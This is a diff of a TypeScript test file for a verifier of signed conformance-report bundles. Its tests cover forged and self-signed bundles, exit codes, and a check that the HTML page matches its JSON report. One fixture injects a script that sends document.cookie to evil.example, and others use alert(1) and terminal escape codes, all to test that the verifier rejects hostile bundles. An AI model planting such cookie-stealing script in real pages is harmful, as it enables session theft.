@@ -10,7 +10,9 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { BUNDLE_FILES, MANIFEST_FORMAT, sha256Of, type Manifest } from '../src/bundle/format.js';
 import { keyFingerprint, publicKeyPem, signBytes } from '../src/bundle/keys.js';
 import { CHECKS } from '../src/catalogue/index.js';
+import { renderHtmlReport } from '../src/report/html.js';
 import type { RunReport } from '../src/report/model.js';
+import { parseRunReport } from '../src/report/read.js';
 import { REFERENCE_CLIENT_SECRET, REFERENCE_CLIENT_ID } from '../src/reference/index.js';
 import { runAgainst, runBin, runMain, tempDir, type HarnessResult } from './support/harness.js';
 import { referenceExpectations } from './support/reports.js';
@@ -65,7 +67,18 @@ async function forge(from: string, to: string, edit: (files: Map<string, string>
   await cp(from, to, { recursive: true });
   const files = new Map<string, string>();
   for (const name of [BUNDLE_FILES.report, BUNDLE_FILES.junit, BUNDLE_FILES.html, BUNDLE_FILES.target]) files.set(name, await readFile(join(to, name), 'utf8'));
+  const before = new Map(files);
   edit(files);
+  // A forger has the harness too: an edited report.json gets the page it renders, unless the
+  // edit is of the page itself.
+  const report = files.get(BUNDLE_FILES.report) ?? '';
+  if (report !== before.get(BUNDLE_FILES.report) && files.get(BUNDLE_FILES.html) === before.get(BUNDLE_FILES.html)) {
+    try {
+      files.set(BUNDLE_FILES.html, renderHtmlReport(parseRunReport(report, BUNDLE_FILES.report)));
+    } catch {
+      // Not a report the harness can render: the page stays as it was.
+    }
+  }
   for (const [name, text] of files) await writeFile(join(to, name), text);
   const manifest: Manifest = { format: MANIFEST_FORMAT, algorithm: 'sha256', files: [...files].map(([path, text]) => ({ path, sha256: sha256Of(text), bytes: Buffer.byteLength(text) })) };
   const manifestText = `${JSON.stringify(manifest, null, 2)}\n`;
@@ -137,11 +150,26 @@ describe('a complete, conformant, signed bundle', () => {
     expect(lines.at(-1)).toBe('CERTIFIABLE: complete, untampered (signed by the key you gave) and conformant');
   });
 
-  it('without --public-key: exit 0, and it says that who signed is not proven', async () => {
+  it('without --public-key: never 0, but exit 4 (consistent, signer not proven)', async () => {
     const result = await verify(good.bundle);
-    expect(result.code).toBe(0);
+    expect(result.code).toBe(4);
     expect(result.stdout).toMatch(/note {2}signature: Ed25519 signature holds for the key the bundle carries \(SHA256:[0-9a-f]{64}\); anyone can sign with their own key: give --public-key/);
-    expect(result.stdout).toMatch(/CERTIFIABLE: complete, matching its manifest, and conformant; who made it is not proven without --public-key/);
+    expect(result.stdout.trim().split('\n').at(-1)).toBe('SIGNER NOT PROVEN: complete, matching its manifest, and conformant, but no key you trust signed it; give --public-key (exit 4)');
+    expect(result.stdout).not.toMatch(/^CERTIFIABLE/m);
+  });
+
+  it('forged by someone without the key, unsigned or signed with their own: exit 4 without --public-key, 1 with it', async () => {
+    // Every file consistent and conformant: all a forger needs is the harness's output format.
+    const unsigned = await forge(good.bundle, join(dir, 'forged-unsigned'), () => undefined);
+    const selfSigned = await forge(good.bundle, join(dir, 'forged-self-signed'), () => undefined, stranger.key);
+    for (const bundle of [unsigned, selfSigned]) {
+      const result = await verify(bundle);
+      expect([result.code, result.fails]).toEqual([4, []]);
+      expect(result.stdout).toContain('SIGNER NOT PROVEN');
+      expect((await verify(bundle, '--public-key', signer.publicPath)).code).toBe(1);
+    }
+    // The forger's own key proves only that the forger signed it: that is what exit 0 means.
+    expect((await verify(selfSigned, '--public-key', stranger.publicPath)).code).toBe(0);
   });
 
   it('with another key than the signer’s: exit 1', async () => {
@@ -177,6 +205,28 @@ describe('a complete, conformant, signed bundle', () => {
       const result = await verify(bundle, '--public-key', signer.publicPath);
       expect(result.fails).toEqual([`signature: made with key ${keyFingerprint(stranger.key)}, not with the key you trust (${keyFingerprint(signer.key)})`]);
       expect(result.code).toBe(1);
+    });
+
+    it('report.html with a script and no Content-Security-Policy, re-signed by its signer: not the page report.json renders', async () => {
+      const bundle = await forge(
+        good.bundle,
+        join(dir, 'scripted-page'),
+        (files) => files.set('report.html', (files.get('report.html') ?? '').replace(/<meta http-equiv="Content-Security-Policy"[^>]*>\n?/, '').replace('<main>', '<main><script>location = "https://evil.example/?" + document.cookie</script>')),
+        stranger.key,
+      );
+      expect(await readFile(join(bundle, 'report.html'), 'utf8')).not.toContain('Content-Security-Policy');
+      const result = await verify(bundle, '--public-key', stranger.publicPath);
+      expect(result.code).toBe(1);
+      expect(result.fails).toEqual([expect.stringMatching(/^report\.html: is not the page report\.json renders: line \d+ is "<meta name=.*", where it should be "<meta http-equiv=\\"Content-Security-Policy\\".*"$/)]);
+      // Without the CSP line removed, the first difference is the script's line.
+      const scripted = await forge(good.bundle, join(dir, 'scripted-only'), (files) => files.set('report.html', (files.get('report.html') ?? '').replace('<main>', '<main><script>alert(1)</script>')), stranger.key);
+      const second = await verify(scripted, '--public-key', stranger.publicPath);
+      expect(second.fails).toEqual(['report.html: is not the page report.json renders: line ' + String((await readFile(join(good.bundle, 'report.html'), 'utf8')).split('\n').indexOf('<main>') + 1) + ' is "<main><script>alert(1)</script>", where it should be "<main>"']);
+    });
+
+    it('the bundle as written: report.html is byte for byte what report.json renders', async () => {
+      const result = await verify(good.bundle, '--public-key', signer.publicPath);
+      expect(result.stdout).toContain('  ok    report.html: exactly the page report.json renders');
     });
 
     it('signature removed: a trusted key requires one', async () => {
@@ -257,10 +307,11 @@ describe('bundles that are not certifiable', () => {
           }
         }
         r.counts = { ...r.counts, passed: r.checks.length, failed: 0, warning: 0, error: 0, skipped: 0, expected: 0 };
-        r.verdict = 'conformant';
+        // A subset run (--suite): consistent, its verdict is conformant-subset, never plain conformant.
+        r.verdict = 'conformant-subset';
         r.exitCode = 0;
       });
-      editJson<{ run: { verdict: string } }>(files, 'target.json', (t) => void (t.run.verdict = 'conformant'));
+      editJson<{ run: { verdict: string } }>(files, 'target.json', (t) => void (t.run.verdict = 'conformant-subset'));
     }, signer.key);
     const result = await verify(forged, '--public-key', signer.publicPath);
     expect(result.code).toBe(1);
@@ -317,7 +368,7 @@ describe('hostile bundles: clear findings, nothing outside the bundle read, noth
       editJson<{ implementation: { name: string } }>(files, 'target.json', (t) => void (t.implementation.name = '<b>Evil</b>\u001b[2J\u001b]0;pwned\u0007'));
     });
     const result = await verify(bundle);
-    expect(result.code).toBe(0);
+    expect(result.code).toBe(4);
     expect(result.stdout).toContain('target.json: <b>Evil</b>[2J]0;pwned 3.2.0');
     expect([...result.stdout].filter((c) => c !== '\n' && (c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f))).toEqual([]);
   });
